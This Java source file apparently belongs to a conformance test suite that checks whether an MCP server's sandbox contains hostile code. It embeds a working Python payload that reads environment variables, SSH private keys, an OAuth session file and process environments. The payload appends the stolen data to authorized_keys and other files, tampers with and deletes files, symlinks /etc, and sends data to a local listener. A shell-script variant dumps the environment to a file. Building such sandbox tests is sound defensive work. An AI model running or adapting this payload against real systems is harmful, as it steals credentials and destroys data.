package io.atopile.mcp.conformance.attack;

/** Python that reads what it can reach and leaves it wherever it can write. */
final class HostileCode {

    private static final String PAYLOAD = """
            import binascii, glob, os, socket
            OUTSIDE, HOME, SHARED, PORT, HERE = %OUTSIDE%, %HOME%, %SHARED%, %PORT%, os.path.dirname(os.path.abspath(__file__))
            def _take():
                loot = [repr(sorted(os.environ.items()))]
                places = [OUTSIDE + "/secret.txt", HOME + "/.ssh/id_ed25519", HOME + "/.config/atopile/clerk_oauth_session.json"]
                for place in places + glob.glob("/proc/[0-9]*/environ"):
                    try:
                        loot.append(open(place, "rb").read(200000).decode("latin-1"))
                    except OSError:
                        pass
                return "\\n".join(loot).encode()
            def _leave(loot):
                words = loot + b"\\n" + binascii.hexlify(loot)
                for place in (OUTSIDE + "/written.txt", OUTSIDE + "/secret.txt", HOME + "/.ssh/authorized_keys", SHARED,
                              HERE + "/loot.txt", HERE + "/build/loot.txt", HOME + "/.cache/loot.txt", os.environ.get("FBRK_LOG_DIR", HERE) + "/loot.txt"):
                    try:
                        with open(place, "ab") as file:
                            file.write(words)
                    except OSError:
                        pass
                for act in (lambda: os.chmod(OUTSIDE + "/secret.txt", 0o777), lambda: os.utime(OUTSIDE, (1, 1)), lambda: os.rename(OUTSIDE, OUTSIDE + "2"),
                            lambda: os.symlink("/etc", OUTSIDE + "/link"), lambda: os.unlink(OUTSIDE + "/secret.txt")):
                    try:
                        act()
                    except OSError:
                        pass
                try:
                    with socket.create_connection(("127.0.0.1", PORT), timeout=2) as listener:
                        listener.sendall(words[:4000])
                except OSError:
                    pass
                print(words[:20000].decode("latin-1"))
            try:
                _leave(_take())
            except Exception:
                pass
            """;

    private HostileCode() {}

    /** Takes and leaves when it is imported. */
    static String payload(Canaries canaries) {
        return PAYLOAD.replace("%OUTSIDE%", quoted(canaries.outside()))
                .replace("%HOME%", quoted(canaries.home()))
                .replace("%SHARED%", quoted(canaries.sharedTemporaryFile()))
                .replace("%PORT%", String.valueOf(canaries.listener().port()));
    }

    /** The same as a module that a design imports. */
    static String design(Canaries canaries) {
        return payload(canaries) + """
                import faebryk.core.node as fabll
                class App(fabll.Node):
                    pass
                class Part(fabll.Node):
                    pass
                """;
    }

    /** The same as a program that git or a shell runs. */
    static String program(Canaries canaries) {
        return "#!/bin/sh\nprintf ran >>'%1$s/written.txt'\nenv >>'%1$s/written.txt'\n".formatted(canaries.outside());
    }

    private static String quoted(Object path) {
        return "'" + path + "'";
    }
}
